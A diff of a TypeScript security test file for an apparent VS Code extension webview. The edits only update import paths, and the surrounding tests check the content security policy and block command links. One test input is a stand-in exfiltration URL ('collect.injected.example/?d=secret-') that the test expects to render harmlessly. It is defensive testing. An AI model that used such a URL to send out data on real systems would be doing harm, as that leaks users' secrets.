@@ -1,7 +1,7 @@
 import { strict as assert } from 'node:assert';
 import fs from 'node:fs';
 import path from 'node:path';
-import { panelPolicy } from '../../../src/extension/panelPolicy';
+import { panelPolicy } from '../../../src/extension/common/panelPolicy';
 import { FromPanel } from '../../../src/protocol/panel';
 import { visible } from '../../../webview-ui/visible';
 import { action, log, page, reply, task } from '../../webview/support/events';
@@ -109,7 +109,7 @@ section('4.5 Rendering and network', 'rendering.ts', (incident) => {
         showsHarmlessly(loaders('https://collect.injected.example/?d=secret-')),
       'has that policy in the product': () => {
         assert.match(
-          source('src/extension/webviewShell.ts'),
+          source('src/extension/common/webviewShell.ts'),
           /Content-Security-Policy" content="\$\{panelPolicy\(source, nonce\)\}"/,
         );
         const policy = panelPolicy('vscode-webview:', 'abc');
@@ -225,7 +225,7 @@ section('4.5 Rendering and network', 'rendering.ts', (incident) => {
         ]),
       'lets no link of the view run a command of the editor': () =>
         assert.match(
-          source('src/extension/webviewShell.ts'),
+          source('src/extension/common/webviewShell.ts'),
           /enableForms: false,\s+enableCommandUris: false,\s+localResourceRoots: \[mediaOf/,
         ),
       'takes no message that names a command to run': () => {
